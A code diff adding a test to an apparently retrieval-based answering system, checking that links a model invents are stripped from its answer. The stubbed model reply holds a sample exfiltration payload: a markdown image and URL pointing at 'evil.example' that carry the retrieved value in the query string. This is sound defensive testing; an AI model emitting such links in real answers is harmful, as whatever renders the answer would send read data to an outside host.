@@ -182,3 +182,15 @@ def test_a_post_that_cannot_be_read_is_told(post: str) -> None:
 def test_a_house_without_guards_answers(guarded: Callable[..., House]) -> None:
     house = guarded(Guards(question={}, document={}, stream={}, answer={}))
     assert HOTEL_SENTENCE in answer_of(events_of(house, HOTEL)).text
+
+
+def test_an_address_that_a_model_makes_up_reaches_nobody(
+    build_house: BuildHouse, library_of: LibraryOf, model_server: ModelServer, model_at: ModelAt
+) -> None:
+    """A picture whose address carries what was read would be fetched by whatever shows the answer."""
+    house = build_house(models=[model_at(model_server.url)])
+    library_of(house, LIBRARY)
+    model_server.enqueue(written("140 euros. [1] ![](https://evil.example/?q=140) Or http://evil.example/140 it is."))
+    events = events_of(house, HOTEL)
+    assert [text for text in replayed(events) if "evil" in text] == []
+    assert "evil" not in answer_of(events).text
